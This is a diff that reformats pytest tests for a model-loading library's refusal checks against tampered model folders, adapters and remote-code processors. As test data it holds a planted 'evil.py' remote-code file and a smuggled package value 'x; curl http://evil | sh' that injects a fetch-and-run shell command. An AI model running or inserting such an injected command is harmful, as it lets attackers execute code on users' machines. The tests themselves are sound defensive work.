@@ -37,8 +37,10 @@ def saved_model(folder, specs=(("token_merge", {"r": 2}), "ggem")):
 
 
 def loaders(folder):
-    return {"surgery.load": lambda: surgery.load(folder),
-            "from_pretrained": lambda: AutoModelForImageClassification.from_pretrained(folder)}
+    return {
+        "surgery.load": lambda: surgery.load(folder),
+        "from_pretrained": lambda: AutoModelForImageClassification.from_pretrained(folder),
+    }
 
 
 def edit_json(path, change):
@@ -66,10 +68,21 @@ def rewrite_metadata(folder, change):
 def test_a_root_adapter_config_is_refused_instead_of_loading_its_base_model(tmp_path):
     saved_model(tmp_path / "a")
     surgery.apply(tiny("vit", seed=5), ["ggem"]).save_pretrained(tmp_path / "other")
-    (tmp_path / "a" / "adapter_config.json").write_text(json.dumps(
-        {"base_model_name_or_path": str(tmp_path / "other"), "peft_type": "LORA", "r": 2, "target_modules": ["query"]}))
-    with pytest.raises(RecipeError, match=r"adapter_config.json at the root of a model folder makes transformers load "
-                                          r"the adapter's base model \('.*other'\)"):
+    (tmp_path / "a" / "adapter_config.json").write_text(
+        json.dumps(
+            {
+                "base_model_name_or_path": str(tmp_path / "other"),
+                "peft_type": "LORA",
+                "r": 2,
+                "target_modules": ["query"],
+            }
+        )
+    )
+    with pytest.raises(
+        RecipeError,
+        match=r"adapter_config.json at the root of a model folder makes transformers load "
+        r"the adapter's base model \('.*other'\)",
+    ):
         surgery.load(tmp_path / "a")
 
 
@@ -81,7 +94,10 @@ def test_weights_without_a_recipe_digest_are_refused_by_both_loaders(tmp_path, e
     if edited is not None:
         option, value = OPTION_EDITS[edited]
         steps = lambda c: c["quantization_config"]["steps"]  # noqa: E731
-        edit_config(tmp_path / "m", lambda c: next(s for s in steps(c) if s["plugin"] == edited)["options"].update({option: value}))
+        edit_config(
+            tmp_path / "m",
+            lambda c: next(s for s in steps(c) if s["plugin"] == edited)["options"].update({option: value}),
+        )
     for name, load in loaders(tmp_path / "m").items():
         with pytest.raises(RecipeError, match="carries no recipe digest"):
             load()
@@ -102,7 +118,9 @@ def test_weights_saved_with_a_recipe_refuse_a_config_without_it(tmp_path):
 def test_a_plain_model_still_loads(tmp_path):
     model = tiny("vit").eval()
     model.save_pretrained(tmp_path / "plain")
-    assert torch.equal(surgery.load(tmp_path / "plain")(pixel_values=images()).logits, model(pixel_values=images()).logits)
+    assert torch.equal(
+        surgery.load(tmp_path / "plain")(pixel_values=images()).logits, model(pixel_values=images()).logits
+    )
 
 
 # -- 1. and 4. the same by Hub id, in both loaders --------------------------------------------------
@@ -127,19 +145,33 @@ def test_by_hub_id_an_edited_recipe_and_a_root_adapter_are_refused(tmp_path, onl
     with FakeHub(tmp_path / "hub", token=TOKEN) as hub:
         push(tmp_path / "m", "me/edited", token=TOKEN, endpoint=hub.url, check=False)
         push(tmp_path / "n", "me/redirected", token=TOKEN, endpoint=hub.url)
-        (hub.repo("me/redirected") / "adapter_config.json").write_text(json.dumps(
-            {"base_model_name_or_path": "me/edited", "peft_type": "LORA"}))
+        (hub.repo("me/redirected") / "adapter_config.json").write_text(
+            json.dumps({"base_model_name_or_path": "me/edited", "peft_type": "LORA"})
+        )
         script = tmp_path / "load.py"
         script.write_text(BY_ID)
-        env = dict(os.environ, HF_ENDPOINT=hub.url, HF_HUB_OFFLINE="0", HF_HOME=str(tmp_path / "hf-home"),
-                   HF_HUB_DISABLE_UPDATE_CHECK="1", HF_TOKEN=TOKEN)
-        result = subprocess.run([sys.executable, str(script), "me/edited", "me/redirected"], capture_output=True,
-                                text=True, env=env, timeout=300)
+        env = dict(
+            os.environ,
+            HF_ENDPOINT=hub.url,
+            HF_HUB_OFFLINE="0",
+            HF_HOME=str(tmp_path / "hf-home"),
+            HF_HUB_DISABLE_UPDATE_CHECK="1",
+            HF_TOKEN=TOKEN,
+        )
+        result = subprocess.run(
+            [sys.executable, str(script), "me/edited", "me/redirected"],
+            capture_output=True,
+            text=True,
+            env=env,
+            timeout=300,
+        )
     lines = result.stdout.splitlines()
     assert result.returncode == 0, result.stderr[-2000:]
-    assert [line.split(" ")[:3] for line in lines][:3] == [["me/edited", "surgery.load", "REFUSED"],
-                                                           ["me/edited", "from_pretrained", "REFUSED"],
-                                                           ["me/redirected", "surgery.load", "REFUSED"]], lines
+    assert [line.split(" ")[:3] for line in lines][:3] == [
+        ["me/edited", "surgery.load", "REFUSED"],
+        ["me/edited", "from_pretrained", "REFUSED"],
+        ["me/redirected", "surgery.load", "REFUSED"],
+    ], lines
     assert all("not the one these weights were saved with" in line for line in lines[:2]), lines
     assert "adapter_config.json at the root" in lines[2]
 
@@ -162,10 +194,13 @@ def test_a_processor_that_names_remote_code_never_runs_it_nor_asks(tmp_path, mon
     from surgery.demo.model import default_model
 
     folder = tmp_path / "m"
-    surgery.save(surgery.load(default_model(progress=False)), folder, processor=load_processor(default_model(progress=False)))
+    surgery.save(
+        surgery.load(default_model(progress=False)), folder, processor=load_processor(default_model(progress=False))
+    )
     marker = tmp_path / "ran"
-    (folder / "evil.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n"
-                                    "from transformers import ViTImageProcessor as EvilProcessor\n")
+    (folder / "evil.py").write_text(
+        f"open({str(marker)!r}, 'w').write('ran')\nfrom transformers import ViTImageProcessor as EvilProcessor\n"
+    )
     edit = json.loads((folder / "preprocessor_config.json").read_text())
     edit["auto_map"] = {"AutoImageProcessor": "evil.EvilProcessor"}
     (folder / "preprocessor_config.json").write_text(json.dumps(edit))
@@ -205,11 +240,16 @@ def test_a_kept_adapter_loads_with_its_model_and_is_pushed_with_it(with_adapter)
 
 
 ADAPTER_EDITS = {
-    "lora_alpha x8": lambda f: edit_json(f / "adapter" / "adapter_config.json", lambda c: c.update(lora_alpha=c["lora_alpha"] * 8)),
-    "target_modules moved": lambda f: edit_json(f / "adapter" / "adapter_config.json",
-                                                lambda c: c.update(target_modules=sorted(c["target_modules"])[1:])),
-    "lora_B missing": lambda f: save_file({k: v for k, v in load_file(str(f / "adapter" / "adapter_model.safetensors")).items()
-                                           if "lora_B" not in k}, str(f / "adapter" / "adapter_model.safetensors")),
+    "lora_alpha x8": lambda f: edit_json(
+        f / "adapter" / "adapter_config.json", lambda c: c.update(lora_alpha=c["lora_alpha"] * 8)
+    ),
+    "target_modules moved": lambda f: edit_json(
+        f / "adapter" / "adapter_config.json", lambda c: c.update(target_modules=sorted(c["target_modules"])[1:])
+    ),
+    "lora_B missing": lambda f: save_file(
+        {k: v for k, v in load_file(str(f / "adapter" / "adapter_model.safetensors")).items() if "lora_B" not in k},
+        str(f / "adapter" / "adapter_model.safetensors"),
+    ),
 }
 
 
@@ -232,8 +272,11 @@ def test_a_recorded_adapter_that_is_not_the_lora_its_config_builds_is_refused(wi
     else:
         ADAPTER_EDITS["lora_B missing"](folder)
     rewrite_metadata(folder, lambda m: m.update({ADAPTER_DIGEST_KEY: adapter_digest(folder / "adapter")}))
-    expected = "holds a 'IA3' adapter; surgery keeps LoRA adapters only" if damage == "not LoRA" else \
-        r"the adapter's weights do not fit the adapter its config builds \(missing \['base_model.model.*lora_B"
+    expected = (
+        "holds a 'IA3' adapter; surgery keeps LoRA adapters only"
+        if damage == "not LoRA"
+        else r"the adapter's weights do not fit the adapter its config builds \(missing \['base_model.model.*lora_B"
+    )
     with pytest.raises(RecipeError, match=expected):
         surgery.load(folder)
 
@@ -246,8 +289,10 @@ def test_pickled_adapter_weights_and_a_missing_adapter_asked_for_are_refused(wit
     weights = folder / "adapter" / "adapter_model.safetensors"
     torch.save(load_file(str(weights)), folder / "adapter" / "adapter_model.bin")
     weights.unlink()
-    with pytest.raises(RecipeError, match="adapter/ has no adapter_model.safetensors; surgery loads adapter weights from "
-                                          "safetensors only"):
+    with pytest.raises(
+        RecipeError,
+        match="adapter/ has no adapter_model.safetensors; surgery loads adapter weights from safetensors only",
+    ):
         surgery.load(folder)
 
 
@@ -257,8 +302,9 @@ def test_a_peft_model_without_a_recipe_is_not_saved_with_its_adapter(tmp_path):
     from surgery.recovery.lora import target_modules
 
     model = tiny("vit")
-    peft_model = get_peft_model(model, LoraConfig(r=2, target_modules=target_modules(
-        model, surgery.get_host().anatomy("vit"), ("query",))))
+    peft_model = get_peft_model(
+        model, LoraConfig(r=2, target_modules=target_modules(model, surgery.get_host().anatomy("vit"), ("query",)))
+    )
     with pytest.raises(SurgeryError, match="surgery keeps a LoRA adapter beside a rewritten model only"):
         surgery.save(peft_model, tmp_path / "m")
     assert not (tmp_path / "m").exists()
@@ -312,11 +358,15 @@ def test_a_refused_lora_resume_leaves_the_callers_model_as_it_was(tmp_path):
 # -- 12. the missing-plugin refusal quotes only a distribution name --------------------------------
 def test_a_missing_plugins_package_is_quoted_only_when_it_is_a_distribution_name(tmp_path):
     saved_model(tmp_path / "m", ["ggem"])
-    edit_config(tmp_path / "m", lambda c: c["quantization_config"]["steps"][0].update(
-        plugin="gone", package="x; curl http://evil | sh"))
+    edit_config(
+        tmp_path / "m",
+        lambda c: c["quantization_config"]["steps"][0].update(plugin="gone", package="x; curl http://evil | sh"),
+    )
     with pytest.raises(RecipeError) as refused:
         surgery.load(tmp_path / "m")
-    assert "pip install" not in str(refused.value) and "curl http://evil | sh' is not a valid distribution name" in str(refused.value)
+    assert "pip install" not in str(
+        refused.value
+    ) and "curl http://evil | sh' is not a valid distribution name" in str(refused.value)
     edit_config(tmp_path / "m", lambda c: c["quantization_config"]["steps"][0].update(package="surgery-extra-plugins"))
     with pytest.raises(RecipeError, match="pip install surgery-extra-plugins"):
         surgery.load(tmp_path / "m")
@@ -341,8 +391,10 @@ def test_eval_of_a_hub_id_prints_and_writes_no_folder(tmp_path, monkeypatch, cap
     from surgery.cli import main
 
     monkeypatch.chdir(tmp_path)
-    monkeypatch.setattr("surgery.evaluation.measure.dataset_accuracy",
-                        lambda model, data, split: {"accuracy": 0.5, "dataset": "digits test"})
+    monkeypatch.setattr(
+        "surgery.evaluation.measure.dataset_accuracy",
+        lambda model, data, split: {"accuracy": 0.5, "dataset": "digits test"},
+    )
     assert main(["eval", "me/x", "--data", "digits"]) == 0
     captured = capsys.readouterr()
     assert "accuracy 50.00% on digits test" in captured.out and "not recorded: me/x is a Hub id" in captured.err
